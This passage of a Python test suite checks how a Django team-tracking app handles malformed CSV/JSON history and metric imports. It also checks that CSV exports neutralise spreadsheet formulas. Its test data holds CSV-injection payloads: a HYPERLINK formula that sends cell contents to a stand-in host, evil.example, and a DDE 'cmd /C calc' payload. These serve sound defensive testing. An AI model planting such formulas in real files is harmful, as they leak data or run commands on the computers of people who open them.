    counts = [model.objects.count() for model in (Requirement, Metric, WebhookEndpoint)]
    response = client.post(reverse(url_name, args=[crew.team.pk]), data)
    assert response.status_code in (200, 400)
    forms = [
        value
        for context in response.context
        for value in context.flatten().values()
        if hasattr(value, "errors") and hasattr(value, "fields")
    ]
    assert any(name in form.errors for form in forms), [form.errors for form in forms]
    assert [model.objects.count() for model in (Requirement, Metric, WebhookEndpoint)] == counts


# --------------------------------------------------------------------------------------------- imports


def _history_import(api: APIClient, team_id: int, content: bytes, name: str) -> Any:
    return api.post(
        f"/api/teams/{team_id}/history/import/",
        {"file": SimpleUploadedFile(name, content, content_type="application/octet-stream")},
        format="multipart",
    )


def _everything() -> list[int]:
    return [Requirement.objects.count(), StageEvent.objects.count(), IterationLoop.objects.count()]


HEADER = ",".join(formats.CSV_COLUMNS)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("binary.csv", b"\x00\x01\x02\xff\xfe" * 100),
        (
            "latin1.csv",
            (HEADER + "\r\nGROW-1,caf\xe9,1,,propose,create,lead,2026-01-01T00:00:00Z,,\r\n").encode(
                "latin-1"
            ),
        ),
        ("header.csv", b"just,some,columns\r\n1,2,3\r\n"),
        (
            "quote.csv",
            (HEADER + '\r\nGROW-1,"unterminated,1,,propose,create,lead,2026-01-01T00:00:00Z,,\r\n').encode(),
        ),
        (
            "nul.csv",
            (HEADER + "\r\nGROW-1,a\x00b,1,,propose,create,lead,2026-01-01T00:00:00Z,,\r\n").encode(),
        ),
        (
            "huge-cell.csv",
            (
                HEADER + "\r\nGROW-1," + "x" * 200_000 + ",1,,propose,create,lead,2026-01-01T00:00:00Z,,\r\n"
            ).encode(),
        ),
        ("deep.json", b"[" * 100_000 + b"]" * 100_000),
        ("broken.json", b'{"format": "opsteam-history", "requirements": [{"key": '),
        ("types.json", b'{"format": "opsteam-history", "version": 1, "requirements": "nope"}'),
        ("empty.csv", b""),
    ],
)
def test_a_malformed_history_file_is_a_clear_400_and_imports_nothing(
    crew: Crew, name: str, content: bytes
) -> None:
    api = APIClient()
    api.force_authenticate(crew.lead)
    before = _everything()
    response = _history_import(api, crew.team.pk, content, name)
    assert response.status_code == 400, response.content[:500]
    assert response.json()["detail"]
    assert _everything() == before


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


def test_formula_cells_import_as_text_export_neutralised_and_round_trip(crew: Crew) -> None:
    api = APIClient()
    api.force_authenticate(crew.lead)
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(formats.CSV_COLUMNS)
    for number, text in enumerate(FORMULAS, start=1):
        writer.writerow(
            [
                f"GROW-{number}",
                text,
                "1",
                "",
                "propose",
                "create",
                "lead",
                "2026-01-01T00:00:00+00:00",
                text,
                "",
            ]
        )
    response = _history_import(api, crew.team.pk, buffer.getvalue().encode(), "formulas.csv")
    assert response.status_code in (200, 201), response.content
    titles = dict(Requirement.objects.values_list("key", "title"))
    # A quote before a formula is taken for the app's own export's and taken off, as the export adds it.
    assert [titles[f"GROW-{n}"] for n in range(1, len(FORMULAS) + 1)] == [
        formats.unneutralise(text).strip() for text in FORMULAS
    ]

    exported = api.get(f"/api/teams/{crew.team.pk}/history/export/?format=csv")
    assert exported.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))) for cell in row]
    assert [cell for cell in cells if cell.startswith(formats.FORMULA_START)] == []
    assert formats.neutralise(FORMULAS[0]) in cells

    again = _history_import(api, crew.team.pk, exported.content, "again.csv")
    assert again.status_code in (200, 201), again.content
    assert dict(Requirement.objects.values_list("key", "title")) == titles


def test_a_history_file_over_the_size_limit_is_refused_whole(
    crew: Crew, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(formats, "MAX_BYTES", 1_000)
    api = APIClient()
    api.force_authenticate(crew.lead)
    content = (HEADER + "\r\n" + "GROW-1,t,1,,propose,create,lead,2026-01-01T00:00:00Z,,\r\n" * 200).encode()
    before = _everything()
    response = _history_import(api, crew.team.pk, content, "big.csv")
    assert response.status_code == 400
    assert _everything() == before


def _observations_import(api: APIClient, team_id: int, content: bytes) -> Any:
    return api.post(
        f"/api/teams/{team_id}/observations/import/",
        {"file": SimpleUploadedFile("o.csv", content, content_type="text/csv")},
        format="multipart",
    )


@pytest.fixture
def dau(crew: Crew) -> Metric:
    """DAU is one of the metrics every team starts with."""
    return Metric.objects.get(team=crew.team, name="DAU")


@pytest.mark.parametrize(
    "content",
    [
        b"\xff\xfe\x00\x00garbage",
        b"metric;date;value\nDAU;2026-01-01;1\n",
        b"metric,date,value\nDAU,2026-01-01,=1+2\n",
        b'metric,date,value\n=HYPERLINK("https://evil.example"),2026-01-01,1\n',
        b"metric,date,value\nDAU,=TODAY(),1\n",
        b"metric,date,value,segment\nDAU,2026-01-01,1,a\x00b\n",
        b"metric,date,value,segment\nDAU,2026-01-01,1," + b"x" * 200_000 + b"\n",
        b'metric,date,value\nDAU,2026-01-01,"1\n',
        b"metric,date,value\nDAU,2026-01-01,1e400\n",
        b"metric,date,value\nDAU,2026-01-01,NaN\n",
        b"metric,date,value,loop\nDAU,2026-01-01,1,GROW-99999999999\n",
        b"metric,date,value\nDAU,2026-01-01,1\nDAU,2026-01-02,oops\n",
    ],
)
def test_a_malformed_observations_file_is_a_clear_400_and_imports_nothing(
    crew: Crew, dau: Metric, content: bytes
) -> None:
    api = APIClient()
    api.force_authenticate(crew.lead)
    response = _observations_import(api, crew.team.pk, content)
    assert response.status_code == 400, response.content[:500]
    assert response.json()["detail"]
    assert Observation.objects.count() == 0


def test_an_observations_file_past_the_row_limit_imports_nothing(
    crew: Crew, dau: Metric, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(imports, "MAX_ROWS", 10)
    api = APIClient()
    api.force_authenticate(crew.lead)
    rows = "".join(f"DAU,2026-01-{day:02d},1\n" for day in range(1, 21))
    response = _observations_import(api, crew.team.pk, ("metric,date,value\n" + rows).encode())
    assert response.status_code == 400
    assert Observation.objects.count() == 0


def test_a_formula_in_a_segment_is_kept_as_plain_text(crew: Crew, dau: Metric) -> None:
    api = APIClient()
    api.force_authenticate(crew.lead)
    content = b'metric,date,value,segment\nDAU,2026-01-01,1,"=HYPERLINK(""https://evil.example"")"\n'
    response = _observations_import(api, crew.team.pk, content)
    assert response.status_code == 200, response.content
    assert Observation.objects.get().segment == '=HYPERLINK("https://evil.example")'
    assert Observation.objects.get().value == Decimal("1.0000")


# -------------------------------------------------------------------------------------------- exports


def _formula_cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    return [cell for row in rows for cell in row if cell.startswith(formats.FORMULA_START)]


@pytest.fixture
def formula_team(crew: Crew) -> Crew:
    """Requirements, a label, a person and a metric named like spreadsheet formulas, with some history."""
    crew.ops.first_name = '=HYPERLINK("https://evil.example","x")'
    crew.ops.save(update_fields=["first_name"])
    for number, text in enumerate(FORMULAS):
        requirement = services.requirement_create(
            team=crew.team,
            actor=crew.ops,
            title=text or "t",
            labels=[f"@label{number}"],
            assignee=crew.ops.pk,
            **READY_FIELDS,
        )
        services.requirement_transition(
            requirement_id=requirement.pk, actor=crew.ops, from_stage="propose", to_stage="design", note=text
        )
    dataloop_services.metric_create(actor=crew.lead, team_id=crew.team.pk, name="=1+1")
    return crew


ANALYTICS_CSVS = ["cycle-time", "time-in-stage", "control-chart", "cumulative-flow", "throughput", "wip"]


@pytest.mark.parametrize("metric", ANALYTICS_CSVS)
def test_analytics_csv_exports_neutralise_formulas(client: Client, formula_team: Crew, metric: str) -> None:
    client.force_login(formula_team.lead)
    response = client.get(reverse("analytics-csv", args=[formula_team.team.pk, metric]))
    assert response.status_code == 200
    assert _formula_cells(response.content) == []


def test_the_wip_export_carries_the_formula_title_neutralised(client: Client, formula_team: Crew) -> None:
    client.force_login(formula_team.lead)
    response = client.get(reverse("analytics-csv", args=[formula_team.team.pk, "wip"]))
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
    assert "'" + FORMULAS[0] in cells


@pytest.mark.parametrize("url_name", ["funnel-csv", "observations-template"])
def test_data_loop_csv_exports_neutralise_formulas(client: Client, formula_team: Crew, url_name: str) -> None:
    client.force_login(formula_team.lead)
    response = client.get(reverse(url_name, args=[formula_team.team.pk]))
    assert response.status_code == 200
    assert _formula_cells(response.content) == []


def test_the_history_csv_export_neutralises_formulas(formula_team: Crew) -> None:
    api = APIClient()
    api.force_authenticate(formula_team.lead)
    response = api.get(f"/api/teams/{formula_team.team.pk}/history/export/?format=csv")
    assert response.status_code == 200
    assert _formula_cells(response.content) == []
